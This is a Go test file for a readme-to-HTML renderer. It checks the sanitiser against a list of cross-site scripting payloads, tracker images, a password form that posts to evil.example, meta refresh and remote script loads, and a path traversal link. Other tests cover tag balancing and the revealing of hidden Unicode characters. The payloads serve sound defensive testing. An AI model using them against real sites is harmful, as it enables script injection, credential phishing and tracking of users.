package prose_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/mcphub/mcphub/internal/web/prose"
)

func readme(source string) prose.Page {
	return prose.Render(source, prose.Options{Prefix: "readme-", Shift: 1, Link: prose.RepositoryLinks("https://github.com/acme/db", "server")})
}

// TestHostile guards: nothing of a readme runs, loads, changes how the page looks or sends what is typed.
func TestHostile(t *testing.T) {
	forbidden := regexp.MustCompile(`(?i)<(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|img|video|audio|source|template|textarea|select)|\son\w+=|style=|javascript:|data:|vbscript:|\sname=|\sid="(?:main|say|top)|srcset|<a[^>]*\sdownload|formaction|http-equiv`)
	for _, source := range []string{
		"<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>1</script></svg>",
		"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>1</script>)",
		"![x](javascript:alert(1))", "![x](https://tracker.example/pixel.gif)", "<img src='https://tracker.example/p.gif' alt='logo' srcset='https://x.example/2x 2x'>",
		"<style>body{display:none}</style>", "<p style='position:fixed;inset:0'>x</p>", "<div class='notice' id='main'>x</div>", "<h1 id='say' name='main'>x</h1>",
		"<iframe src=https://evil.example></iframe>", "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
		"<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
		"<a href='https://x.example' onclick='alert(1)' target=_blank download>x</a>", "</main></body><script>alert(1)</script>", "<math><mtext></p><script>1</script>",
		"<details open ontoggle=alert(1)><summary>x</summary></details>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
		"```html\"><script>alert(1)</script>\nx\n```", "<pre><code class='language-\" onclick=alert(1)'>x</code></pre>", "`<img src=x onerror=alert(1)>`\n\n<b>ok</b>", "<a href=\"//evil.example/<img src=x>\">x</a>",
		"[a]: javascript:alert(1)\n[x][a]", "<https://x.example/\"onmouseover=alert(1)>", "<textarea></textarea><template><script>1</script></template>",
	} {
		// what is escaped is text: take it out before looking
		out := regexp.MustCompile(`&[a-z0-9#]+;[^<]*`).ReplaceAllString(readme(source).HTML, "")
		if m := forbidden.FindString(out); m != "" {
			t.Errorf("%q became %q, which has %q", source, readme(source).HTML, m)
		}
	}
}

func TestRender(t *testing.T) {
	for source, want := range map[string]string{
		"# Set up\n\ntext":                                `<h2 id="readme-set-up">Set up</h2>`,
		"## A\n\n## A":                                    `<h3 id="readme-a-1">A</h3>`,
		"[x](https://x.example/a?b=1&c=2)":                `<a href="https://x.example/a?b=1&amp;c=2" rel="ugc nofollow noopener noreferrer">x</a>`,
		"[x](docs/use.md#top)":                            `href="https://github.com/acme/db/blob/HEAD/server/docs/use.md#top"`,
		"[x](../../../../etc/passwd)":                     `href="https://github.com/acme/db/blob/HEAD/etc/passwd"`,
		"[x](/LICENSE)":                                   `href="https://github.com/acme/db/blob/HEAD/LICENSE"`,
		"[x](#set-up)":                                    `<a href="#readme-set-up">x</a>`,
		"![the schema](https://x.example/s.png)":          `<a class="image" href="https://x.example/s.png" rel="ugc nofollow noopener noreferrer">Picture: the schema</a>`,
		"[![build](https://x/b.svg)](https://ci.example)": `<a href="https://ci.example" rel="ugc nofollow noopener noreferrer">build</a>`,
		"| a | b |\n|---|---|\n| 1 | 2 |":                 `<div class="scroll" tabindex="0"><table>`,
		"```json\n{\"a\": 1}\n```":                        `<span class="nt">&#34;a&#34;</span>`,
		"```\na < b\n```":                                 `<pre tabindex="0"><code>a &lt; b`,
		"- [x] done":                                      "<li>",
		"<details><summary>More</summary>x</details>":     "<details><summary>More</summary>x</details>",
		"https://x.example/auto":                          `<a href="https://x.example/auto"`,
	} {
		if got := readme(source).HTML; !strings.Contains(got, want) {
			t.Errorf("%q: got %q, want %q", source, got, want)
		}
	}
	if got := readme("[x](docs/use.md)").HTML; strings.Contains(got, `href="/`) {
		t.Errorf("a relative link stays in this hub: %s", got)
	}
	unknown := prose.Render("[x](docs/use.md) [y](/account)", prose.Options{Link: prose.RepositoryLinks("", "")})
	if strings.Contains(unknown.HTML, "href") {
		t.Errorf("relative links without a repository stay: %s", unknown.HTML)
	}
	if got := readme("[![a](https://img.shields.io/x)](https://x.example) ![](https://shields.io/y)").HTML; !strings.Contains(got, ">a</a>") || strings.Contains(got, "shields") {
		t.Errorf("badges: %s", got)
	}
}

// TestBalanced guards: what a readme leaves open is closed, and what it closes was opened by it.
func TestBalanced(t *testing.T) {
	for _, source := range []string{"</table></div></main>", "<table><tr><td>x", "<details><summary>x", "<ul><li><b>x", "</li></ul></p></blockquote>", "<h2>x", "<pre>x", "<a href=https://x.example>x"} {
		out := readme(source).HTML
		for _, tag := range []string{"div", "table", "details", "ul", "p", "b", "a", "pre", "blockquote", "h3"} {
			if a, b := len(regexp.MustCompile("<"+tag+"[ >]").FindAllString(out, -1)), strings.Count(out, "</"+tag+">"); a != b {
				t.Errorf("%q: %d <%s> and %d ends: %s", source, a, tag, b, out)
			}
		}
	}
}

func TestReveal(t *testing.T) {
	for in, want := range map[string]string{
		"plain text": "plain text", "a\u200bb": "a[U+200B]b", "\u202eevil\u202c": "[U+202E]evil[U+202C]", "tag\U000E0041": "tag[U+E0041]",
		"line\nnext": "line\nnext", "👩\u200d💻": "👩\u200d💻", "bell\a": "bell[U+0007]", "": "",
	} {
		got, n := "", 0
		for _, p := range prose.Reveal(in) {
			if p.Hidden {
				got, n = got+"["+p.Text+"]", n+1
				continue
			}
			got += p.Text
		}
		if got != want || n != prose.Hidden(in) {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, s := range []string{"# a\n\n<b>x", "[a](b)![c](d)", "<pre><code>", "<h1><a href=x><img alt=y></h1>", "<table><td>", "</a></h2></pre>"} {
		f.Add(s)
	}
	bad := regexp.MustCompile(`(?i)<(script|iframe|img|style|form|input)[\s>]`)
	f.Fuzz(func(t *testing.T, s string) {
		if m := bad.FindString(readme(s).HTML); m != "" {
			t.Errorf("%q has %q", s, m)
		}
	})
}
